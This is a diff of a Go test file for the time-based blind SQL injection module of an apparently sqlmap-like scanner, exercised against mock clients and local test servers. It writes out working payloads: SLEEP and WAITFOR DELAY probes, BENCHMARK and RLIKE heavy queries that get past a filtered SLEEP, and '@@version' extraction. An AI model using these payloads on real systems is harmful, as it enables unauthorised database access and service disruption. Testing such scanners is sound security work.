@@ -2,13 +2,21 @@ package timebased
 
 import (
 	"context"
+	"io"
+	"math"
+	"net/http"
+	"net/http/httptest"
 	"net/url"
+	"slices"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
+	"github.com/0x6d61/sqleech/internal/dbms"
 	"github.com/0x6d61/sqleech/internal/engine"
 	"github.com/0x6d61/sqleech/internal/technique"
+	"github.com/0x6d61/sqleech/internal/testutil/sqlmock"
 	"github.com/0x6d61/sqleech/internal/transport"
 )
 
@@ -46,8 +54,11 @@ func containsSleepPayload(s string) bool {
 	hasSleep := strings.Contains(upper, "SLEEP(") || strings.Contains(upper, "PG_SLEEP(")
 	isTrueCondition := strings.Contains(upper, "1=1")
 	isFalseCondition := strings.Contains(upper, "1=2")
+	// A sleep opened with an unbalanced parenthesis is a syntax error and
+	// never runs.
+	broken := strings.Contains(upper, "AND (IF(") || strings.Contains(upper, "AND (1=(CASE")
 
-	return hasSleep && isTrueCondition && !isFalseCondition
+	return hasSleep && isTrueCondition && !isFalseCondition && !broken
 }
 
 func (c *mockTimeClient) Do(ctx context.Context, req *transport.Request) (*transport.Response, error) {
@@ -77,6 +88,102 @@ func (c *mockTimeClient) Stats() *transport.TransportStats {
 	return &transport.TransportStats{TotalRequests: c.requests}
 }
 
+// jitterClient answers without waiting, reporting for request n the
+// latency latency(n), plus delay when the request carries a sleep payload
+// and injectable is set.
+type jitterClient struct {
+	latency    func(n int) time.Duration
+	delay      time.Duration
+	injectable bool
+	n          int
+}
+
+func (c *jitterClient) Do(_ context.Context, req *transport.Request) (*transport.Response, error) {
+	d := c.latency(c.n)
+	c.n++
+	if c.injectable && containsSleepPayload(req.URL+req.Body) {
+		d += c.delay
+	}
+	return &transport.Response{
+		StatusCode: 200,
+		Body:       []byte("<html><body><p>Product: Widget</p></body></html>"),
+		Duration:   d,
+	}, nil
+}
+
+func (c *jitterClient) SetProxy(_ string) error { return nil }
+func (c *jitterClient) SetRateLimit(_ float64)  {}
+func (c *jitterClient) Stats() *transport.TransportStats {
+	return &transport.TransportStats{TotalRequests: int64(c.n)}
+}
+
+// sqlTimeClient runs the id parameter through db as
+// SELECT id FROM products WHERE id=X. Every request takes latency of real
+// time, and reports the delay the query's sleep functions requested on top
+// of it without waiting for it, so extraction runs fast but its wall-clock
+// time still scales with the number of requests sent one after another.
+// Requests containing block, when set, are refused with a 403 as by a WAF.
+type sqlTimeClient struct {
+	db       *sqlmock.DB
+	latency  time.Duration
+	block    string
+	requests atomic.Int64
+	heavy    atomic.Int64 // Requests carrying BENCHMARK or RLIKE
+}
+
+func newSQLTimeClient(version string) *sqlTimeClient {
+	return &sqlTimeClient{
+		db: &sqlmock.DB{
+			Dialect: sqlmock.MySQL,
+			Version: version,
+			Tables: map[string]*sqlmock.Table{
+				"products": {Columns: []string{"id"}, Rows: [][]sqlmock.Value{{int64(1)}}},
+			},
+		},
+		latency: 10 * time.Millisecond,
+	}
+}
+
+func (c *sqlTimeClient) Do(ctx context.Context, req *transport.Request) (*transport.Response, error) {
+	c.requests.Add(1)
+	select {
+	case <-time.After(c.latency):
+	case <-ctx.Done():
+		return nil, ctx.Err()
+	}
+	u, err := url.Parse(req.URL)
+	if err != nil {
+		return nil, err
+	}
+	id := u.Query().Get("id")
+	if strings.Contains(id, "BENCHMARK(") || strings.Contains(id, " RLIKE ") {
+		c.heavy.Add(1)
+	}
+	if c.block != "" && strings.Contains(id, c.block) {
+		return &transport.Response{StatusCode: 403, Body: []byte("Forbidden"), Duration: c.latency}, nil
+	}
+	d := c.latency
+	if res, err := c.db.Query("SELECT id FROM products WHERE id=" + id); err == nil {
+		d += res.Sleep
+	}
+	return &transport.Response{
+		StatusCode: 200,
+		Body:       []byte("<html><body><p>Product: Widget</p></body></html>"),
+		Duration:   d,
+	}, nil
+}
+
+func (c *sqlTimeClient) SetProxy(_ string) error { return nil }
+func (c *sqlTimeClient) SetRateLimit(_ float64)  {}
+func (c *sqlTimeClient) Stats() *transport.TransportStats {
+	return &transport.TransportStats{TotalRequests: c.requests.Load()}
+}
+
+// cycle returns a latency function repeating ds.
+func cycle(ds []time.Duration) func(int) time.Duration {
+	return func(n int) time.Duration { return ds[n%len(ds)] }
+}
+
 // mockInjectionRequest builds a minimal InjectionRequest for testing.
 func mockInjectionRequest(client transport.Client) *technique.InjectionRequest {
 	baseline := &transport.Response{
@@ -122,7 +229,7 @@ func TestTimeBased_Priority(t *testing.T) {
 func TestTimeBased_Detect_Injectable_MySQL(t *testing.T) {
 	// Use 1s sleep with 0.3 tolerance → threshold ≈ 300ms.
 	// Mock client delays 500ms for sleep payloads → 500ms > 300ms → detected.
-	tech := NewWithConfig(1, 0.3)
+	tech := NewWithConfig(1, 0.3, 0, 0)
 	client := &mockTimeClient{simulatedDelay: 500 * time.Millisecond}
 
 	req := mockInjectionRequest(client)
@@ -153,7 +260,7 @@ func TestTimeBased_Detect_Injectable_MySQL(t *testing.T) {
 }
 
 func TestTimeBased_Detect_Injectable_PostgreSQL(t *testing.T) {
-	tech := NewWithConfig(1, 0.3)
+	tech := NewWithConfig(1, 0.3, 0, 0)
 	client := &mockTimeClient{simulatedDelay: 500 * time.Millisecond}
 
 	req := mockInjectionRequest(client)
@@ -173,7 +280,7 @@ func TestTimeBased_Detect_Injectable_PostgreSQL(t *testing.T) {
 
 func TestTimeBased_Detect_Safe(t *testing.T) {
 	// Mock client that never delays — simulates a non-injectable endpoint.
-	tech := NewWithConfig(1, 0.3)
+	tech := NewWithConfig(1, 0.3, 0, 0)
 	client := &mockTimeClient{simulatedDelay: 0}
 
 	req := mockInjectionRequest(client)
@@ -189,8 +296,122 @@ func TestTimeBased_Detect_Safe(t *testing.T) {
 	}
 }
 
+func TestTimeBased_Detect_Jitter(t *testing.T) {
+	// Up to 1.6s of jitter: the old threshold, a two-sample average plus
+	// 0.3s, is reached by the spikes alone.
+	jitter := cycle(ms(200, 1600, 300, 1400, 200))
+
+	t.Run("spikes are not delays", func(t *testing.T) {
+		client := &jitterClient{latency: jitter, delay: time.Second}
+		result, err := NewWithConfig(1, 0.3, 0, 0).Detect(context.Background(), mockInjectionRequest(client))
+		if err != nil {
+			t.Fatalf("Detect() error: %v", err)
+		}
+		if result.Injectable {
+			t.Errorf("jitter reported as injectable: %s", result.Evidence)
+		}
+	})
+
+	t.Run("sleep above the jitter", func(t *testing.T) {
+		client := &jitterClient{latency: jitter, delay: 3 * time.Second, injectable: true}
+		req := mockInjectionRequest(client)
+		req.Risk = HeavyRisk
+		result, err := NewWithConfig(3, 0.7, 0, 0).Detect(context.Background(), req)
+		if err != nil {
+			t.Fatalf("Detect() error: %v", err)
+		}
+		if !result.Injectable {
+			t.Fatal("expected a 3s sleep to stand out of 1.6s jitter")
+		}
+		if !strings.Contains(result.Evidence, "baseline=0.30s median") {
+			t.Errorf("Evidence = %q, want the baseline median", result.Evidence)
+		}
+	})
+
+	t.Run("sample count and k", func(t *testing.T) {
+		// One baseline sample has no spread, so the spikes reach the
+		// threshold; the controls around the no-sleep probe show them too.
+		client := &jitterClient{latency: jitter, delay: time.Second}
+		result, err := NewWithConfig(1, 0.3, 1, 0).Detect(context.Background(), mockInjectionRequest(client))
+		if err != nil {
+			t.Fatalf("Detect() error: %v", err)
+		}
+		if result.Injectable {
+			t.Errorf("with one baseline sample, the controls should still rule the spikes out: %s", result.Evidence)
+		}
+	})
+}
+
+func TestTimeBased_Detect_LatencyDrops(t *testing.T) {
+	// A buffering proxy answers the first requests slowly, then settles:
+	// the baseline taken while it was slow puts the threshold above a
+	// 1s sleep on a settled connection, but not the controls.
+	client := &jitterClient{
+		latency: func(n int) time.Duration {
+			if n < 6 {
+				return 1200 * time.Millisecond
+			}
+			return 100 * time.Millisecond
+		},
+		delay:      time.Second,
+		injectable: true,
+	}
+	result, err := NewWithConfig(1, 0.3, 0, 0).Detect(context.Background(), mockInjectionRequest(client))
+	if err != nil {
+		t.Fatalf("Detect() error: %v", err)
+	}
+	if !result.Injectable {
+		t.Fatal("expected detection against the settled controls")
+	}
+	if !strings.Contains(result.Evidence, "threshold 0.40s") || !strings.Contains(result.Evidence, "controls 0.10s, 0.10s") {
+		t.Errorf("Evidence = %q, want the threshold over the settled controls", result.Evidence)
+	}
+}
+
+func TestTimeBased_Detect_LatencyRises(t *testing.T) {
+	// A shared runner comes under load right after the baseline: every
+	// request, the no-sleep probe included, now takes 1.5s longer than
+	// the threshold the baseline set.
+	client := &jitterClient{
+		latency: func(n int) time.Duration {
+			if n < 5 {
+				return 50 * time.Millisecond
+			}
+			return 1500 * time.Millisecond
+		},
+		delay:      time.Second,
+		injectable: true,
+	}
+	result, err := NewWithConfig(1, 0.3, 0, 0).Detect(context.Background(), mockInjectionRequest(client))
+	if err != nil {
+		t.Fatalf("Detect() error: %v", err)
+	}
+	if !result.Injectable {
+		t.Fatal("expected detection against the controls taken under load")
+	}
+	if !strings.Contains(result.Evidence, "baseline=0.05s median") || !strings.Contains(result.Evidence, "controls 1.50s, 1.50s") {
+		t.Errorf("Evidence = %q, want the stale baseline and the controls", result.Evidence)
+	}
+}
+
+func TestTimeBased_Threshold(t *testing.T) {
+	tech := NewWithConfig(1, 0.3, 0, 2)
+	tests := []struct {
+		base Sample
+		want time.Duration
+	}{
+		{Sample{Median: 100 * time.Millisecond, StdDev: 50 * time.Millisecond}, 400 * time.Millisecond},
+		{Sample{Median: 100 * time.Millisecond, StdDev: 500 * time.Millisecond}, 1100 * time.Millisecond},
+	}
+	for _, tt := range tests {
+		if got := tech.threshold(tt.base); got != tt.want {
+			t.Errorf("threshold(%+v) = %v, want %v", tt.base, got, tt.want)
+		}
+	}
+}
+
 func TestTimeBased_Detect_ContextCancellation(t *testing.T) {
-	tech := NewWithConfig(5, 0.7)
+	tech := NewWithConfig(5, 0.7, 0, 0)
 	// Use a long delay so the test is driven by context cancellation.
 	client := &mockTimeClient{simulatedDelay: 10 * time.Second}
 
@@ -210,33 +431,513 @@ func TestTimeBased_Detect_ContextCancellation(t *testing.T) {
 	_ = err // error or nil is acceptable after cancellation
 }
 
-func TestTimeBased_SleepPayloadFor_MySQL(t *testing.T) {
-	d := findDBMS("MySQL")
-	payload := sleepPayloadFor(d, "1=1", 5)
-	if !strings.Contains(payload, "IF(") {
-		t.Errorf("MySQL sleep payload missing IF(): %s", payload)
+func TestTimeBased_StackedSleepFor(t *testing.T) {
+	d := dbms.Registry("MSSQL")
+	if got, want := stackedSleepFor(d, "1=1", 5), "IF (1=1) WAITFOR DELAY '0:00:05'"; got != want {
+		t.Errorf("stackedSleepFor = %q, want %q", got, want)
+	}
+	if got, want := stackedSleepFor(d, "1=2", 90), "IF (1=2) WAITFOR DELAY '0:01:30'"; got != want {
+		t.Errorf("stackedSleepFor = %q, want %q", got, want)
+	}
+}
+
+func TestTimeBased_VariantsFor(t *testing.T) {
+	comment := boundaryPair{id: "bnd.squote.comment", prefix: "'", suffix: "-- -"}
+	tests := []struct {
+		name  string
+		dbms  string
+		bp    boundaryPair
+		wants []string // Injected sleep probes, in order
+	}{
+		{"mssql stacks first", "MSSQL", comment, []string{
+			"1'; IF (1=1) WAITFOR DELAY '0:00:05' -- -",
+			"1' AND 1=(CASE WHEN (1=1) THEN (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B) ELSE 1 END) -- -",
+		}},
+		{"mssql without a comment cannot terminate", "MSSQL", boundaryPair{prefix: "'", suffix: "AND '1'='1"}, []string{
+			"1' AND 1=(CASE WHEN (1=1) THEN (SELECT COUNT(*) FROM information_schema.columns A, information_schema.columns B) ELSE 1 END) AND '1'='1",
+		}},
+		{"mysql never stacks", "MySQL", comment, []string{
+			"1' AND IF(1=1,SLEEP(5),0) -- -",
+		}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			d := dbms.Registry(tt.dbms)
+			variants := variantsFor(d, "", 1, tt.bp)
+			if len(variants) != len(tt.wants) {
+				t.Fatalf("got %d variants, want %d", len(variants), len(tt.wants))
+			}
+			for i, bp := range variants {
+				if got := bp.inject("1", sleepCoreFor(d, bp, "1=1", 5)); got != tt.wants[i] {
+					t.Errorf("variant %d injects %q, want %q", i, got, tt.wants[i])
+				}
+			}
+		})
+	}
+}
+
+func TestTimeBased_VariantsFor_MySQLHint(t *testing.T) {
+	bp := boundaryPair{id: "bnd.int.none"}
+	tests := []struct {
+		hint  string
+		risk  int
+		wants []delayKind
+	}{
+		{"MySQL", HeavyRisk, []delayKind{delaySleep, delayBenchmark, delayRegex}},
+		{"MariaDB", HeavyRisk, []delayKind{delaySleep, delayBenchmark, delayRegex}},
+		{"MySQL", 1, []delayKind{delaySleep}},
+		{"PostgreSQL", HeavyRisk, []delayKind{delaySleep}},
+		{"", HeavyRisk, []delayKind{delaySleep}},
+	}
+	for _, tt := range tests {
+		variants := variantsFor(dbms.Registry("MySQL"), tt.hint, tt.risk, bp)
+		var got []delayKind
+		for _, v := range variants {
+			got = append(got, v.delay)
+		}
+		if !slices.Equal(got, tt.wants) {
+			t.Errorf("hint %q, risk %d: delays = %v, want %v", tt.hint, tt.risk, got, tt.wants)
+		}
+	}
+}
+
+func TestTimeBased_HeavyPayloadFor(t *testing.T) {
+	tests := []struct {
+		bp   boundaryPair
+		want string
+	}{
+		{boundaryPair{delay: delayBenchmark, cost: 5000000}, "IF(1=1,BENCHMARK(5000000,MD5('x')),0)"},
+		{boundaryPair{delay: delayRegex, cost: 800}, "IF(1=1,RPAD('a',800,'a') RLIKE 'a*a*a*b',0)"},
+	}
+	for _, tt := range tests {
+		got := sleepCoreFor(dbms.Registry("MySQL"), tt.bp, "1=1", 5)
+		if got != tt.want {
+			t.Errorf("sleepCoreFor = %q, want %q", got, tt.want)
+		}
+		if n, ok := costIn("1 AND "+got, tt.bp.delay); !ok || n != tt.bp.cost {
+			t.Errorf("costIn(%q) = %d, %v; want %d", got, n, ok, tt.bp.cost)
+		}
+	}
+}
+
+// heavyClient reports, for a known-true BENCHMARK probe of n iterations,
+// a delay of curve(n) on top of 10ms of latency, and no delay otherwise.
+type heavyClient struct {
+	curve    func(n float64) time.Duration
+	requests int
+}
+
+func (c *heavyClient) Do(_ context.Context, req *transport.Request) (*transport.Response, error) {
+	c.requests++
+	u, err := url.Parse(req.URL)
+	if err != nil {
+		return nil, err
+	}
+	id := u.Query().Get("id")
+	d := 10 * time.Millisecond
+	if n, ok := costIn(id, delayBenchmark); ok && strings.Contains(id, "IF(1=1,") {
+		d += c.curve(float64(n))
+	}
+	return &transport.Response{StatusCode: 200, Body: []byte("ok"), Duration: d}, nil
+}
+
+func (c *heavyClient) SetProxy(_ string) error { return nil }
+func (c *heavyClient) SetRateLimit(_ float64)  {}
+func (c *heavyClient) Stats() *transport.TransportStats {
+	return &transport.TransportStats{TotalRequests: int64(c.requests)}
+}
+
+func TestTimeBased_Calibrate(t *testing.T) {
+	const unit = 50 * time.Millisecond // Delay of the first, 1,000,000-iteration probe
+	tests := []struct {
+		name  string
+		curve func(n float64) time.Duration
+		ok    bool
+	}{
+		{"linear", func(n float64) time.Duration { return time.Duration(n / 1e6 * float64(unit)) }, true},
+		{"sublinear", func(n float64) time.Duration { return time.Duration(math.Sqrt(n/1e6) * float64(unit)) }, true},
+		{"superlinear", func(n float64) time.Duration { return time.Duration(n / 1e6 * n / 1e6 * float64(unit)) }, true},
+		{"no delay", func(float64) time.Duration { return 0 }, false},
+	}
+	baseline := Sample{N: 5, Median: 10 * time.Millisecond}
+	threshold := 310 * time.Millisecond
+	goal := (threshold - baseline.Median) * 3 / 2
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			client := &heavyClient{curve: tt.curve}
+			tech := NewWithConfig(1, 0.3, 0, 0)
+			bp := boundaryPair{id: "bnd.int.none", delay: delayBenchmark}
+			got, ok := tech.calibrate(context.Background(), mockInjectionRequest(client), dbms.Registry("MySQL"), bp, baseline, threshold)
+			if ok != tt.ok {
+				t.Fatalf("calibrate ok = %v, want %v (cost %d after %d probes)", ok, tt.ok, got.cost, client.requests)
+			}
+			if client.requests > maxCalibrationRounds {
+				t.Errorf("sent %d probes, want at most %d", client.requests, maxCalibrationRounds)
+			}
+			if ok && tt.curve(float64(got.cost)) < goal {
+				t.Errorf("cost %d delays %v, want at least %v", got.cost, tt.curve(float64(got.cost)), goal)
+			}
+			if !ok && client.requests != 1 {
+				t.Errorf("sent %d probes for a variant that never delays, want 1", client.requests)
+			}
+		})
+	}
+}
+
+func TestTimeBased_Detect_SleepFiltered(t *testing.T) {
+	tech := NewWithConfig(1, 0.3, 0, 0)
+	client := newSQLTimeClient("8.0.32")
+	client.block = "SLEEP("
+
+	// The heavy queries are gated by risk.
+	result, err := tech.Detect(context.Background(), mockInjectionRequest(client))
+	if err != nil {
+		t.Fatalf("Detect() returned unexpected error: %v", err)
+	}
+	if result.Injectable {
+		t.Fatalf("Injectable=true at risk 1 with SLEEP filtered: %s", result.Evidence)
+	}
+	if n := client.heavy.Load(); n != 0 {
+		t.Fatalf("sent %d heavy queries at risk 1", n)
+	}
+
+	req := mockInjectionRequest(client)
+	req.Risk = HeavyRisk
+	result, err = tech.Detect(context.Background(), req)
+	if err != nil {
+		t.Fatalf("Detect() returned unexpected error: %v", err)
+	}
+	if !result.Injectable {
+		t.Fatal("expected Injectable=true with SLEEP filtered")
+	}
+	if !strings.Contains(result.Evidence, "BENCHMARK heavy query") {
+		t.Errorf("evidence does not name the heavy query: %s", result.Evidence)
+	}
+
+	// Extraction reuses the calibrated BENCHMARK.
+	res, err := tech.Extract(context.Background(), &technique.ExtractionRequest{
+		InjectionRequest: *req,
+		Query:            "@@version",
+	})
+	if err != nil {
+		t.Fatalf("Extract() error: %v", err)
+	}
+	if res.Value != "8.0.32" {
+		t.Errorf("Value = %q, want %q", res.Value, "8.0.32")
+	}
+}
+
+// --------------------------------------------------------------------------
+// Streaming responses
+// --------------------------------------------------------------------------
+
+// streamingRequest returns an InjectionRequest for the id parameter of a
+// server running handler, sent through the real transport client so that
+// time to first byte and total time are both measured.
+func streamingRequest(t *testing.T, handler http.HandlerFunc) *technique.InjectionRequest {
+	t.Helper()
+	srv := httptest.NewServer(handler)
+	t.Cleanup(srv.Close)
+	client, err := transport.NewClient(transport.ClientOptions{Timeout: 5 * time.Second})
+	if err != nil {
+		t.Fatalf("NewClient: %v", err)
+	}
+	req := mockInjectionRequest(client)
+	req.Target.URL = srv.URL + "/?id=1"
+	return req
+}
+
+// trickle flushes the headers at once and then writes the page in chunks,
+// pausing pause before each chunk.
+func trickle(w http.ResponseWriter, chunks int, pause time.Duration) {
+	f := w.(http.Flusher)
+	w.WriteHeader(http.StatusOK)
+	f.Flush()
+	for range chunks {
+		time.Sleep(pause)
+		io.WriteString(w, "<p>Product: Widget</p>")
+		f.Flush()
+	}
+}
+
+func TestTimeBased_Detect_Streaming(t *testing.T) {
+	const delay = 500 * time.Millisecond
+
+	// tarpit trickles the body of any request carrying a tautology. That
+	// looks like a sleep when the total time is measured, but its headers
+	// arrive at once.
+	tarpit := func(w http.ResponseWriter, r *http.Request) {
+		pause := time.Millisecond
+		if strings.Contains(r.URL.Query().Get("id"), "1=1") {
+			pause = delay / 5
+		}
+		trickle(w, 5, pause)
+	}
+	// lateQuery flushes its headers before running the query, so only the
+	// total time shows the sleep.
+	lateQuery := func(w http.ResponseWriter, r *http.Request) {
+		trickle(w, 1, time.Millisecond)
+		if containsSleepPayload(r.URL.RawQuery) {
+			time.Sleep(delay)
+		}
+		io.WriteString(w, "<p>Price: 10</p>")
+	}
+
+	tests := []struct {
+		name       string
+		handler    http.HandlerFunc
+		total      bool // Measure total time instead of the first byte
+		injectable bool
+	}{
+		{
+			// The query sleeps before anything is written.
+			name: "sleep before first byte",
+			handler: func(w http.ResponseWriter, r *http.Request) {
+				if containsSleepPayload(r.URL.RawQuery) {
+					time.Sleep(delay)
+				}
+				io.WriteString(w, "<p>Product: Widget</p>")
+			},
+			injectable: true,
+		},
+		{
+			// Every page is slow to start, whatever the input.
+			name: "slow first byte, not injectable",
+			handler: func(w http.ResponseWriter, r *http.Request) {
+				time.Sleep(delay)
+				io.WriteString(w, "<p>Product: Widget</p>")
+			},
+		},
+		{
+			name:    "trickled body, not injectable",
+			handler: tarpit,
+		},
+		{
+			name:       "trickled body, not injectable, total time",
+			handler:    tarpit,
+			total:      true,
+			injectable: true, // The false positive the first byte avoids
+		},
+		{
+			name:       "sleep after headers, total time",
+			handler:    lateQuery,
+			total:      true,
+			injectable: true,
+		},
+		{
+			name:    "sleep after headers, first byte",
+			handler: lateQuery,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			req := streamingRequest(t, tt.handler)
+			tech := NewWithConfig(1, 0.3, 0, 0).WithTotalTime(tt.total)
+
+			result, err := tech.Detect(context.Background(), req)
+			if err != nil {
+				t.Fatalf("Detect() returned unexpected error: %v", err)
+			}
+			if result.Injectable != tt.injectable {
+				t.Errorf("Injectable = %v, want %v (evidence %q)", result.Injectable, tt.injectable, result.Evidence)
+			}
+			if result.Injectable && !strings.Contains(result.Evidence, "first byte") {
+				t.Errorf("Evidence = %q, want both timings", result.Evidence)
+			}
+		})
+	}
+}
+
+func TestTimeBased_Detect_ProbeTimeout(t *testing.T) {
+	// hang holds every request matching stuck until the client gives up,
+	// long past the client's own 5s timeout.
+	hang := func(stuck func(id string) bool) http.HandlerFunc {
+		return func(w http.ResponseWriter, r *http.Request) {
+			if stuck(r.URL.Query().Get("id")) {
+				select {
+				case <-time.After(10 * time.Second):
+				case <-r.Context().Done():
+					return
+				}
+			}
+			io.WriteString(w, "<p>Product: Widget</p>")
+		}
+	}
+	sleeping := func(id string) bool { return containsSleepPayload(url.QueryEscape(id)) }
+
+	// The threshold is about 300ms over a near-zero baseline.
+	tests := []struct {
+		name       string
+		stuck      func(id string) bool
+		timeout    time.Duration // InjectionRequest.Timeout
+		injectable bool
+		warned     bool
+	}{
+		{name: "sleep never returns, derived timeout", stuck: sleeping, injectable: true},
+		{name: "sleep never returns, timeout over threshold", stuck: sleeping, timeout: 800 * time.Millisecond, injectable: true},
+		{name: "sleep never returns, timeout under threshold", stuck: sleeping, timeout: 200 * time.Millisecond, warned: true},
 	}
-	if !strings.Contains(strings.ToUpper(payload), "SLEEP(5)") {
-		t.Errorf("MySQL sleep payload missing SLEEP(5): %s", payload)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			req := streamingRequest(t, hang(tt.stuck))
+			req.Timeout = tt.timeout
+			var warnings []string
+			req.Progress = func(msg string) { warnings = append(warnings, msg) }
+			tech := NewWithConfig(1, 0.3, 0, 0)
+
+			start := time.Now()
+			result, err := tech.Detect(context.Background(), req)
+			if err != nil {
+				t.Fatalf("Detect() returned unexpected error: %v", err)
+			}
+			if result.Injectable != tt.injectable {
+				t.Errorf("Injectable = %v, want %v (evidence %q)", result.Injectable, tt.injectable, result.Evidence)
+			}
+			if elapsed := time.Since(start); elapsed > 5*time.Second {
+				t.Errorf("Detect took %v, want the probes timed out well before the client timeout", elapsed)
+			}
+			if warned := slices.ContainsFunc(warnings, func(w string) bool { return strings.Contains(w, "below the") }); warned != tt.warned {
+				t.Errorf("warnings = %q, want a timeout warning: %v", warnings, tt.warned)
+			}
+		})
 	}
 }
 
-func TestTimeBased_SleepPayloadFor_PostgreSQL(t *testing.T) {
-	d := findDBMS("PostgreSQL")
-	payload := sleepPayloadFor(d, "1=1", 5)
-	if !strings.Contains(strings.ToUpper(payload), "PG_SLEEP(5)") {
-		t.Errorf("PostgreSQL sleep payload missing PG_SLEEP(5): %s", payload)
+// timeoutClient records the timeouts of the probes and of the control
+// requests, which leave the parameter as it was, before passing them on.
+// With expire set, a probe calling a sleep function fails at once as if it
+// had run out its timeout, whatever its condition.
+type timeoutClient struct {
+	mockTimeClient
+	expire                         bool
+	probeTimeouts, controlTimeouts []time.Duration
+}
+
+func (c *timeoutClient) Do(ctx context.Context, req *transport.Request) (*transport.Response, error) {
+	if strings.HasSuffix(req.URL, "?id=1") {
+		c.controlTimeouts = append(c.controlTimeouts, req.Timeout)
+		return c.mockTimeClient.Do(ctx, req)
+	}
+	c.probeTimeouts = append(c.probeTimeouts, req.Timeout)
+	if c.expire && strings.Contains(strings.ToUpper(req.URL), "SLEEP%28") {
+		return nil, &url.Error{Op: "Get", URL: req.URL, Err: context.DeadlineExceeded}
 	}
-	if !strings.Contains(strings.ToUpper(payload), "CASE WHEN") {
-		t.Errorf("PostgreSQL sleep payload missing CASE WHEN: %s", payload)
+	return c.mockTimeClient.Do(ctx, req)
+}
+
+func TestTimeBased_ProbeTimeouts(t *testing.T) {
+	for _, override := range []time.Duration{0, 30 * time.Second} {
+		client := &timeoutClient{mockTimeClient: mockTimeClient{simulatedDelay: 500 * time.Millisecond}}
+		req := mockInjectionRequest(client)
+		req.Timeout = override
+		if _, err := NewWithConfig(1, 0.3, 0, 0).Detect(context.Background(), req); err != nil {
+			t.Fatalf("Detect() returned unexpected error: %v", err)
+		}
+		if len(client.probeTimeouts) == 0 {
+			t.Fatal("no probe sent")
+		}
+		for _, d := range client.probeTimeouts {
+			// 1s sleep + a near-zero median + the 300ms margin.
+			if override > 0 && d != override || override == 0 && (d < 1300*time.Millisecond || d > 1400*time.Millisecond) {
+				t.Errorf("override %v: probe timeout = %v", override, d)
+			}
+		}
+		for _, d := range client.controlTimeouts {
+			if d != override {
+				t.Errorf("override %v: control timeout = %v, want the override", override, d)
+			}
+		}
 	}
 }
 
-func TestTimeBased_SleepPayloadFor_FalseCondition_MySQL(t *testing.T) {
-	d := findDBMS("MySQL")
-	payload := sleepPayloadFor(d, "1=2", 5)
-	// False condition: IF(1=2, SLEEP(5), 0) → should not trigger in mock
-	if !strings.Contains(payload, "1=2") {
-		t.Errorf("false-condition payload missing '1=2': %s", payload)
+func TestTimeBased_Detect_EveryProbeTimesOut(t *testing.T) {
+	// A target that hangs on any sleep call, true or false, is lagging
+	// rather than sleeping on demand.
+	client := &timeoutClient{expire: true}
+	result, err := NewWithConfig(1, 0.3, 0, 0).Detect(context.Background(), mockInjectionRequest(client))
+	if err != nil {
+		t.Fatalf("Detect() returned unexpected error: %v", err)
+	}
+	if result.Injectable {
+		t.Errorf("Injectable = true (evidence %q), want timed-out no-sleep probes to veto", result.Evidence)
+	}
+	if len(client.probeTimeouts) == 0 {
+		t.Error("no probe sent")
+	}
+}
+
+func TestTimeBased_Control(t *testing.T) {
+	tech := NewWithConfig(1, 0.3, 0, 0)
+	client := &mockTimeClient{simulatedDelay: 500 * time.Millisecond}
+	req := mockInjectionRequest(client)
+
+	result, err := tech.Detect(context.Background(), req)
+	if err != nil || !result.Injectable {
+		t.Fatalf("test setup: Detect() = %+v, %v", result, err)
+	}
+	finding := engine.Vulnerability{Parameter: *req.Parameter, Technique: tech.Name(), Payload: result.Payload.String()}
+
+	tests := []struct {
+		kind engine.ControlKind
+		want bool
+	}{
+		{engine.ControlRepeat, true},
+		{engine.ControlNegative, false},
+	}
+	for _, tt := range tests {
+		fired, err := tech.Control(context.Background(), &technique.ControlRequest{InjectionRequest: *req, Finding: finding, Kind: tt.kind})
+		if err != nil {
+			t.Fatalf("Control(%v) error: %v", tt.kind, err)
+		}
+		if fired != tt.want {
+			t.Errorf("Control(%v) fired = %v, want %v", tt.kind, fired, tt.want)
+		}
+	}
+}
+
+func TestTimeBased_Extract_Concurrent(t *testing.T) {
+	const version = "8.0.32-0ubuntu0.22.04.1"
+	extract := func(probes int) (*technique.ExtractionResult, time.Duration) {
+		t.Helper()
+		tech := NewWithConfig(1, 0.3, 0, 0).WithMaxConcurrentProbes(probes)
+		req := &technique.ExtractionRequest{
+			InjectionRequest: *mockInjectionRequest(newSQLTimeClient(version)),
+			Query:            "@@version",
+		}
+		start := time.Now()
+		res, err := tech.Extract(context.Background(), req)
+		if err != nil {
+			t.Fatalf("Extract(%d probes) error: %v", probes, err)
+		}
+		return res, time.Since(start)
+	}
+
+	seq, seqTime := extract(1)
+	par, parTime := extract(3)
+	if seq.Value != version || par.Value != version {
+		t.Fatalf("Value = %q sequential, %q concurrent; want %q", seq.Value, par.Value, version)
+	}
+	if seq.Requests != par.Requests {
+		t.Errorf("Requests = %d sequential, %d concurrent; want the same", seq.Requests, par.Requests)
+	}
+	if parTime > seqTime*3/4 {
+		t.Errorf("concurrent extraction took %v, sequential %v; want a clear speed-up", parTime, seqTime)
+	}
+}
+
+func TestTimeBased_WithMaxConcurrentProbes(t *testing.T) {
+	tests := []struct{ n, want int }{
+		{0, 3},
+		{-1, 3},
+		{1, 1},
+		{2, 2},
+		{10, 3},
+	}
+	for _, tt := range tests {
+		if got := New().WithMaxConcurrentProbes(tt.n).concurrentProbes; got != tt.want {
+			t.Errorf("WithMaxConcurrentProbes(%d) = %d, want %d", tt.n, got, tt.want)
+		}
 	}
 }